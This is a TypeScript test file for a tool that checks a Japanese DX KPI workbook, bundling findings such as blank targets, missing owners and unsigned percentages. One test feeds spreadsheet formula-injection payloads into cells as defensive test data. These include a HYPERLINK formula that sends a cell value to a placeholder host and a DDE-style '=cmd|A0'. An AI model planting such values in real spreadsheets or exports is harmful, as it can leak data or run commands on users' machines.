import { bundlesOf, fixesOf, nameInBundle } from '../../../src/pane/checks/bundles';
import { CHECK_WORDS, remarkGroups, plainList } from '../../../src/pane/checks/check-words';
import { inspectWorkbook, type Inspection } from '../../../src/sheets/inspect/remark';
import { finish } from '../../../src/sheets/read/slices';
import { AS_OF, cellsOf, ENTRIES, HOURS, PRIDE, workbookState } from '../workbook-state';

const inspect = (...kpis: readonly (typeof HOURS)[]): Inspection =>
  finish(inspectWorkbook(workbookState({ DX_KPIs: cellsOf('DX_KPIs', kpis) }), AS_OF));

const bundles = ({ remarks }: Inspection) => bundlesOf(remarks, CHECK_WORDS.ja);

test('findings of one kind stand together, what they share is said once', () => {
  const found = bundles(
    inspect(
      { ...HOURS, 目標2030: '約110万時間' },
      { ...ENTRIES, 目標2030: '４０箇所', 目標2040: '' },
      { ...PRIDE, 目標2030: '80％', 目標2040: '' },
    ),
  );
  const [texts] = found.filter(({ remarks }) => remarks[0].fix !== null);
  // Each says its own text, so each sentence stays.
  expect(texts).toMatchObject({
    shared: null,
    remarks: [{ places: [{ address: 'G6' }] }, { places: [{ address: 'G7' }] }, { places: [{ address: 'G8' }] }],
  });
  expect(texts && fixesOf(texts, 'ja').map(({ place, to, fix }) => [place.address, fix.to, to])).toEqual([
    ['G6', 1100000, '1,100,000'],
    ['G7', 40, '40'],
    ['G8', 0.8, '80%'],
  ]);
  const blank = found.find(({ remarks }) => remarks[0].what.kind === 'issue' && remarks[0].what.issue.kind === 'blankTarget');
  expect(blank?.remarks.map(({ subject }) => subject)).toEqual(['多重入力箇所', '職員のやりがい向上']);
  expect(blank?.shared).toMatch(/^「目標2040」が空です/);
  expect(found.reduce((sum, { remarks }) => sum + remarks.length, 0)).toBe(found.flatMap(({ remarks }) => remarks).length);
});

test('percentages without their sign are put right together, in whichever column they stand', () => {
  const found = bundles(inspect({ ...PRIDE, 基準値: 62, 目標2030: 80, 目標2040: 95 }));
  const [shares] = found.filter(({ remarks }) => remarks[0].fix !== null);
  expect(shares && fixesOf(shares, 'ja').map(({ place, fix }) => [place.address, fix.to])).toEqual([
    ['F6', 0.62],
    ['G6', 0.8],
    ['H6', 0.95],
  ]);
});

test('what several KPIs lack alike is said once, and each is named by its own name', () => {
  const found = bundles(inspect({ ...HOURS, 担当: '' }, { ...ENTRIES, 担当: '' }));
  const owners = found.find(({ remarks: [{ what }] }) => what.kind === 'finding' && what.finding.message.kind === 'kpiWithoutOwner');
  expect(owners?.shared).toBe('担当が空です。');
  expect(owners?.remarks.map(nameInBundle)).toEqual(['作業削減時間', '多重入力箇所']);
});

test('one cell is put right once, and the name of a column never along with others', () => {
  const cells = cellsOf('DX_KPIs', [HOURS]).map((line, row) =>
    row === 0 ? line.map(header => (header === '基準年度' ? '基準年' : header)) : line,
  );
  const inspection = finish(inspectWorkbook(workbookState({ DX_KPIs: cells }), AS_OF));
  const [headers] = bundles(inspection).filter(({ remarks }) => remarks[0].fix !== null);
  expect(headers?.remarks).toHaveLength(1);
  expect(headers && fixesOf(headers, 'ja')).toEqual([]);
});

test('no line of the list begins as a formula would, whatever stands in the cells', () => {
  const inspection = inspect(
    { ...HOURS, 名称: '窓口の待ち時間\n=HYPERLINK("http://example.invalid/?"&A1)\t=1+1', 目標2030: '\n=cmd|A0' },
    { ...ENTRIES, 担当: '課\n=2+2', 目標2030: '四十\r\n@SUM(A1)' },
    { ...PRIDE, 目標2040: '年\u2028-3', 担当: '\u0085+3+3' },
    { ...HOURS, 番号: 'K9', 名称: 'a\u0000=1\u0007=2\u000b+3\u001c-4\u001e@5', 目標2030: '\u001f=1' },
  );
  for (const by of ['sheet', 'division'] as const) {
    const lines = plainList(remarkGroups(inspection.remarks, by, CHECK_WORDS.ja), inspection, CHECK_WORDS.ja, '、').split(
      /\r\n|[\p{Cc}\u2028\u2029]/u,
    );
    expect(lines.filter(line => /^[\s]*[=+\-@＝＋－＠]/.test(line))).toEqual([]);
    expect(lines.some(line => line.includes('\t'))).toBe(false);
    expect(lines.length).toBeGreaterThan(5);
  }
});
